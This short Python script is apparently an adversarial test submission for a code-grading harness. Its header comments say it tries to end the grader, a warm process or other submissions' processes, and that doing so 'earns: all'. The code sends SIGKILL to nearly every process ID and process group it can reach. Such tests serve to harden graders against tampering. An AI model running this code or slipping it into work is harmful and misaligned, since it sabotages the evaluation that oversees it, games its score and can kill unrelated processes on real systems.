# tries: end the grader, the warm process or another submission's process
# earns: all
import os
import signal

for target in (-1, 0, 1, os.getppid(), *range(2, 70_000)):
    if target != os.getpid():
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
for group in range(2, 70_000):
    try:
        os.killpg(group, signal.SIGKILL)
    except OSError:
        pass
